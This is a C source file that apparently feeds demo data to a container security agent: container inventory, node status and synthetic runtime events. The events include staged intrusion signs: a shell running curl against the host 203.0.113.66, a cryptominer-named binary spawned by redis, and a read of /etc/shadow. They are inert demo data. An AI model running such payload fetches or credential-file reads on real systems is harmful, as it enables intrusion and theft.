/* nodes_tell.c - what the demo's nodes say: their containers, a few hours of events,
 * how they are. */
#include "demo/nodes_internal.h"

#include "base/str.h"
#include "base/time.h"
#include "model/container.h"
#include "model/event.h"
#include "wire/jsonw.h"
#include "wire/msg/alert.h"
#include "wire/msg/container.h"
#include "wire/msg/event.h"
#include "wire/msg/node.h"

#include <stdio.h>
#include <string.h>

enum { REPLICAS_SHOWN = 3, BODY_MAX = 8 << 20 };

/* ---- containers ---------------------------------------------------------------------------------- */

bool container_is_here(const struct demo_node *node, const struct demo_workload *w, int replica, struct demo_container *out)
{
    uint8_t hash[SHA256_LEN];
    char key[160];

    *out = (struct demo_container){ .workload = w };
    snprintf(out->workload_name, sizeof out->workload_name, "%s-%u", w->workload, w->image->line * 10 + w->image->build);
    snprintf(key, sizeof key, "%s/%s/%s/%d", w->cluster, w->namespace, out->workload_name, replica);
    if (!str_eq(w->cluster, node->cluster) || demo_hash(3, key) % node->of != node->nth)
        return false;
    sha256(key, strlen(key), hash);
    for (size_t i = 0; i < sizeof hash; i++)
        snprintf(out->id + 2 * i, 3, "%02x", hash[i]);
    snprintf(out->pod, sizeof out->pod, "%s-%.5s", out->workload_name, out->id);
    return true;
}

static void describe(const struct nodes *s, const struct demo_container *c, struct arena *arena, struct container *out)
{
    static const char *const few[] = { "NET_BIND_SERVICE" };
    static const char *const all[] = { "CHOWN", "DAC_OVERRIDE", "NET_ADMIN", "SYS_ADMIN", "SYS_PTRACE" };
    static const char *const sensitive[] = { "keep/sensitive=true" };
    const struct demo_workload *w = c->workload;
    const char *repository = w->image->repository->name;
    bool is_privileged = str_eq(repository, "platform/runner"), is_sensitive = str_eq(repository, "payments/card-gateway") ||
                         str_eq(repository, "data/notebook");

    shape_init(&container_shape, out);
    out->id = c->id;
    out->name = "main";
    out->image = arena_printf(arena, "%s/%s:%s", DEMO_REGISTRY, repository, w->image->tag);
    out->digest = w->image->digest;
    out->engine = "containerd";
    out->runtime = is_sensitive && str_eq(repository, "payments/card-gateway") ? "runsc" : "runc";
    out->sandbox = str_eq(out->runtime, "runsc") ? "gvisor" : "";
    out->namespace = w->namespace;
    out->pod = c->pod;
    out->workload = c->workload_name;
    out->user_id = is_privileged ? 0 : 1000 + (int64_t)(demo_hash(5, repository) % 3);
    out->group_id = out->user_id;
    out->capabilities = is_privileged ? all : few;
    out->n_capabilities = is_privileged ? N_ITEMS(all) : N_ITEMS(few);
    out->labels = sensitive;
    out->n_labels = is_sensitive;
    out->is_privileged = is_privileged;
    out->no_new_privileges = !is_privileged;
    out->seccomp = is_privileged ? "unconfined" : "default";
    out->started_ms = s->fleet->now_ms - (int64_t)(demo_hash(9, c->id) % (14 * 24)) * MS_HOUR;
}

int node_tell_containers(struct nodes *s, struct demo_node *node, struct err *err)
{
    struct buf body;
    struct jsonw w;

    buf_init(&body, BODY_MAX);
    jsonw_init(&w, &body);
    jsonw_object(&w);
    jsonw_kint(&w, "generation", 1);
    jsonw_kint(&w, "base", 0);
    jsonw_key(&w, "containers");
    jsonw_array(&w);
    for (size_t i = 0; i < s->fleet->n_workloads; i++) {
        for (int k = 0; k < s->fleet->workloads[i].replicas && k < REPLICAS_SHOWN; k++) {
            struct demo_container here;
            struct container c;
            if (!container_is_here(node, &s->fleet->workloads[i], k, &here))
                continue;
            describe(s, &here, s->arena, &c);
            shape_write(&container_shape, &c, &w);
        }
    }
    jsonw_array_end(&w);
    jsonw_object_end(&w);
    int rc = nodes_post(s, node->token, "/v1/agent/inventory", &body, NULL, err);
    buf_free(&body);
    return rc;
}

/* ---- events ------------------------------------------------------------------------------------------ */

struct happening {
    const char *repository;
    int source, kind, verdict, severity;
    const char *exe, *parent, *args;
    int64_t local_port;
    const char *remote, *service; int64_t remote_port;
    const char *path, *rule, *message;
    int times, minutes;                        /* how often, and how long ago the first was */
    const char *only;                          /* once, in this cluster; NULL: in every container */
};

static const struct happening happenings[HAPPENINGS_MAX] = {
    /* what is expected */
    { "checkout/search", SOURCE_TETRAGON, EVENT_EXEC, VERDICT_OBSERVED, 6, "/usr/bin/java", "/usr/bin/tini", "-jar search.jar", -1, NULL, NULL, -1, NULL, NULL, NULL, 6, 300, NULL },
    { "checkout/search", SOURCE_TETRAGON, EVENT_LISTEN, VERDICT_OBSERVED, 6, "/usr/bin/java", NULL, NULL, 8080, NULL, NULL, -1, NULL, NULL, NULL, 4, 299, NULL },
    { "checkout/search", SOURCE_HUBBLE, EVENT_CONNECT, VERDICT_OBSERVED, 6, "/usr/bin/java", NULL, NULL, -1, "10.20.3.8", "checkout/cache-40", 6379, NULL, NULL, NULL, 20, 290, NULL },
    { "payments/wallet", SOURCE_TETRAGON, EVENT_EXEC, VERDICT_OBSERVED, 6, "/app/wallet", NULL, NULL, -1, NULL, NULL, -1, NULL, NULL, NULL, 4, 280, NULL },
    { "checkout/cache", SOURCE_TETRAGON, EVENT_EXEC, VERDICT_OBSERVED, 6, "/usr/local/bin/redis-server", NULL, NULL, -1, NULL, NULL, -1, NULL, NULL, NULL, 5, 260, NULL },
    { "edge/till", SOURCE_FALCO, EVENT_EXEC, VERDICT_OBSERVED, 6, "/usr/bin/java", NULL, "-jar till.jar", -1, NULL, NULL, -1, NULL, NULL, NULL, 5, 250, NULL },
    /* what is not */
    { "checkout/search", SOURCE_TETRAGON, EVENT_EXEC, VERDICT_OBSERVED, 5, "/bin/sh", "/usr/bin/java", "-c curl -s http://203.0.113.66/a", -1, NULL, NULL, -1, NULL, NULL, NULL, 1, 95, "prod-eu" },
    { "checkout/search", SOURCE_TETRAGON, EVENT_EXEC, VERDICT_OBSERVED, 5, "/usr/bin/curl", "/bin/sh", "-s http://203.0.113.66/a", -1, NULL, NULL, -1, NULL, NULL, NULL, 1, 94, "prod-eu" },
    { "checkout/search", SOURCE_HUBBLE, EVENT_CONNECT, VERDICT_OBSERVED, 5, "/usr/bin/java", NULL, NULL, -1, "10.20.7.31", "payments/wallet-10", 8443, NULL, NULL, NULL, 7, 90, "prod-eu" },
    { "payments/wallet", SOURCE_TETRAGON, EVENT_LISTEN, VERDICT_OBSERVED, 5, "/app/wallet", NULL, NULL, 6060, NULL, NULL, -1, NULL, NULL, NULL, 2, 60, "prod-us" },
    { "checkout/cache", SOURCE_TETRAGON, EVENT_EXEC, VERDICT_KILLED, 3, "/tmp/kdevtmpfsi", "/usr/local/bin/redis-server", "", -1, NULL, NULL, -1, NULL, NULL, NULL, 9, 42, "prod-eu" },
    { "support/mailer", SOURCE_FALCO, EVENT_FILE_OPEN, VERDICT_ALERT, 4, "/usr/bin/python3", NULL, NULL, -1, NULL, NULL, -1, "/etc/shadow",
      "Read sensitive file untrusted", "Sensitive file opened for reading by non-trusted program", 2, 35, "prod-us" },
};

static void fill(const struct happening *h, const struct demo_container *c, int64_t at_ms, int64_t seq, struct event *e)
{
    shape_init(&event_shape, e);
    e->seq = seq;
    e->at_ms = at_ms;
    e->source = h->source;
    e->kind = h->kind;
    e->verdict = h->verdict;
    e->severity = h->severity;
    e->rule = h->rule;
    e->message = h->message;
    e->container.id = c->id;
    e->container.digest = c->workload->image->digest;
    e->place = (struct event_place){ .namespace = c->workload->namespace, .pod = c->pod, .workload = c->workload_name };
    e->process.exe = h->exe;
    e->process.args = h->args;
    e->process.parent_exe = h->parent;
    e->process.pid = 2000 + seq % 20000;
    e->net.protocol = h->kind == EVENT_CONNECT || h->kind == EVENT_LISTEN ? "tcp" : NULL;
    e->net.direction = h->kind == EVENT_CONNECT ? "out" : h->kind == EVENT_LISTEN ? "in" : NULL;
    e->net.local_port = h->local_port;
    e->net.remote = h->remote;
    e->net.remote_port = h->remote_port;
    e->net.remote_service = h->service;
    e->file.path = h->path;
    e->count = 1;
}

static int64_t write_happenings(struct nodes *s, struct demo_node *node, struct jsonw *w)
{
    int64_t seq = 0;

    for (size_t i = 0; i < s->fleet->n_workloads; i++) {
        struct demo_container here;
        if (!container_is_here(node, &s->fleet->workloads[i], 0, &here) || seq > BATCH_EVENTS_MAX / 2)
            continue;
        for (size_t k = 0; k < N_ITEMS(happenings) && happenings[k].repository != NULL; k++) {
            const struct happening *h = &happenings[k];
            if (!str_eq(h->repository, here.workload->image->repository->name) ||
                (h->only != NULL && (!str_eq(h->only, node->cluster) || s->happened[k])))
                continue;
            s->happened[k] = h->only != NULL;
            for (int n = 0; n < h->times; n++) {
                struct event e;
                fill(h, &here, s->fleet->now_ms - h->minutes * MS_MINUTE + n * 20 * MS_SECOND, ++seq, &e);
                shape_write(&event_shape, &e, w);
            }
        }
    }
    return seq;
}

/* One node lost some: its disk was full for a while, and the account says so. */
int node_tell_events(struct nodes *s, struct demo_node *node, struct err *err)
{
    char stream[STREAM_LEN + 1];
    struct buf body, events;
    struct jsonw w;
    int64_t lost = str_eq(node->name, "prod-us-2") ? 214 : 0;

    snprintf(stream, sizeof stream, "%016llx%016llx", (unsigned long long)demo_hash(11, node->name), (unsigned long long)demo_hash(12, node->node_id));
    buf_init(&events, BODY_MAX);
    buf_init(&body, BODY_MAX);
    jsonw_init(&w, &events);
    jsonw_array(&w);
    int64_t seq = write_happenings(s, node, &w);
    jsonw_array_end(&w);
    if (seq + lost > 0 && !events.failed) {
        buf_printf(&body, "{\"stream\":\"%s\",\"first_seq\":1,\"last_seq\":%lld,\"events\":%s", stream, (long long)(seq + lost), events.ptr);
        if (lost > 0)
            buf_printf(&body, ",\"dropped\":[{\"class\":\"low\",\"reason\":\"disk_full\",\"count\":%lld}]", (long long)lost);
        buf_puts(&body, "}");
    }
    int rc = events.failed ? err_nomem(err) : body.len > 0 ? nodes_post(s, node->token, "/v1/agent/events", &body, NULL, err) : 0;
    buf_free(&events);
    buf_free(&body);
    return rc;
}

/* ---- how they are ------------------------------------------------------------------------------------- */

int node_tell_status(struct nodes *s, struct demo_node *node, struct err *err)
{
    static const struct status_source sources[] = { { "tetragon", "reading", "", 0 }, { "hubble", "reading", "", 0 }, { "falco", "waiting", "", 0 } };
    static const struct status_rung lsm[] = { { "lsm", "bpf is not among the kernel's security modules (lsm=...,bpf)" } };
    bool is_strong = node->nth % 2 == 0;
    const struct status_walls walls = { .rung = is_strong ? "lsm" : "sigkill", .reasons = lsm, .n_reasons = !is_strong, .profiles = 3, .lease_s = 60 };
    struct node_status_report r;
    struct buf body;

    shape_init(&node_status_report_shape, &r);
    r.bundle_version = node->version;
    r.bundle_age_s = 60;
    r.sources = sources;
    r.n_sources = N_ITEMS(sources);
    r.walls = &walls;
    r.rss_kib = 11000 + (int64_t)(demo_hash(13, node->name) % 2000);
    r.cpu_ms = 4000;
    r.started_ms = s->fleet->now_ms - 3 * MS_DAY;
    r.agent_version = KEEP_VERSION;
    r.bundle_problem = "";
    buf_init(&body, 1 << 16);
    shape_encode(&node_status_report_shape, &r, &body);
    int rc = nodes_post(s, node->token, "/v1/agent/status", &body, NULL, err);
    buf_free(&body);
    return rc;
}
